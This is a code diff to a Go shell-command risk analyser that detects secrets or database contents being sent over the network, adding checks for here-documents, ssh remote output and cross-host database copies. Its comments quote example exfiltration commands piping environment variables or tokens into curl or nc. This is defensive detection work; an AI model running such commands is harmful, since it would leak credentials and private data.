@@ -280,16 +280,40 @@ func (a *Analysis) secretsToNetwork() {
 		// A command that fetches a credential and prints it (aws sts
 		// get-session-token) is its own source, not a sink: that is asked
 		// by effects.credentials. Another command reaching the network is.
-		if i := slices.IndexFunc(leaks, func(l *Command) bool { return l.Cmd != sc.Cmd }); i >= 0 {
-			leak := leaks[i]
+		var copied *Command
+		for _, leak := range leaks {
+			switch {
+			case leak.Cmd == sc.Cmd || returnsHome(leak.Cmd, sc.Cmd):
+				continue
+			case copied == nil && leak.Result.Private && !leak.Result.Credentials && !isEnvDump(leak.Cmd) &&
+				slices.Contains(databaseLoaders, sc.Cmd.Name):
+				copied = leak
+				continue
+			}
 			a.add(Critical("effects.secret-to-network", risk.CatExfiltration, sc.Cmd.Span, text(leak.Cmd),
 				fmt.Sprintf("The call prints %s (%s) and reaches the network (%s).", leakWhat(leak), text(leak.Cmd), sc.Cmd.Name),
 				"use the credential where it is needed without printing it"))
 			return
 		}
+		if copied != nil {
+			a.add(risk.Finding{Rule: "effects.data-to-database", Category: risk.CatExfiltration, Tier: risk.Destructive,
+				Blast: risk.BlastHigh, Verdict: risk.Ask, Span: sc.Cmd.Span, Subject: text(sc.Cmd),
+				Reason: fmt.Sprintf("The call copies a database's content (%s) into a database on another host (%s).",
+					text(copied.Cmd), text(sc.Cmd)),
+				Suggestion: "let a person confirm where the data goes"})
+		}
 		a.secretWords(sc)
 		a.secretPipedIn(sc)
 	}
+}
+
+// returnsHome reports whether leak runs on another host as the remote
+// command of net (ssh host env): what it prints comes back to this
+// machine, like a local env's, and is judged as that, not as sent out.
+// Its output piped on to another client is still sent (ssh host env |
+// curl -d @- URL): that client is another sink.
+func returnsHome(leak, net *shell.Command) bool {
+	return leak.Remote != "" && net.Remote == "" && net.Span.Start <= leak.Span.Start && leak.Span.End <= net.Span.End
 }
 
 // secretPipedIn checks what echo or printf print into the standard input
@@ -315,9 +339,32 @@ func (a *Analysis) secretPipedIn(sc Command) {
 			return
 		case !slices.Contains(passFilters, p.Name):
 			return
+		case !a.secretHereDocs(sc, p):
+			return
 		}
 	}
 }
+
+// secretHereDocs checks the here-documents and here-strings of c, the
+// network command sc itself or a filter piping its input on to it: a
+// secret expanded into one is sent (curl -d @- URL <<< "$TOKEN", cat
+// <<EOF | nc host 80). A quoted delimiter keeps $NAME literal, and such a
+// body is known. False: stop, as secretWord.
+func (a *Analysis) secretHereDocs(sc Command, c *shell.Command) bool {
+	for _, r := range c.Redirects {
+		if r.IsHereDoc() && !a.secretWord(sc, shell.Word{Value: r.Body, Known: r.BodyKnown, Span: r.Span}) {
+			return false
+		}
+	}
+	return true
+}
+
+// databaseLoaders are the database clients that load what they are given
+// into the database they connect to: a dump piped into one on another host
+// is a copy between databases (pg_dump app | psql -h db2 app), which a
+// person confirms, not a leak to any address.
+var databaseLoaders = []string{"psql", "pg_restore", "mysql", "mariadb", "mongorestore", "mongoimport", "mongosh",
+	"clickhouse-client", "redis-cli", "cqlsh", "sqlcmd"}
 
 // maxPipeFilters bounds the filters secretPipedIn follows back.
 const maxPipeFilters = 8
@@ -354,6 +401,9 @@ func (a *Analysis) secretWords(sc Command) {
 			return
 		}
 	}
+	// A here-document or here-string is the command's input, sent as
+	// surely as its words (curl -d @-, nc, ssh's remote shell).
+	a.secretHereDocs(sc, sc.Cmd)
 }
 
 // secretWord checks one word of secretWords; false: stop, the budget is
